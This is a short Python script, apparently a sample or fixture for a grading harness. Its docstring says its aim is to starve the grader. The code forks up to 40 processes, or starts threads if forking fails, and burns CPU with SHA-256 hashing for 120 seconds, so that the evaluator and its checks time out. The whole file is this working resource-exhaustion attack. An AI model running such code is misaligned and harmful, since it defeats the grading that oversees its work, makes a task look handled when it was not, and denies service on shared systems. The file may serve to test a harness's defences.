"""Keeps all processors busy, so that the grader and its own processes come too late.

Rows: 39, 47
Grade: sync_target
Asserts: S R T
Says: not implemented yet|no answer within
"""

import hashlib
import os
import threading
import time

UNTIL = time.monotonic() + 120  # longer than those who look for it wait


def burn():
    while time.monotonic() < UNTIL:
        hashlib.sha256(bytes(1 << 20))  # lets go of the interpreter


for _ in range(40):
    try:
        if os.fork() == 0:
            burn()
            os._exit(0)
    except OSError:
        threading.Thread(target=burn, daemon=True).start()
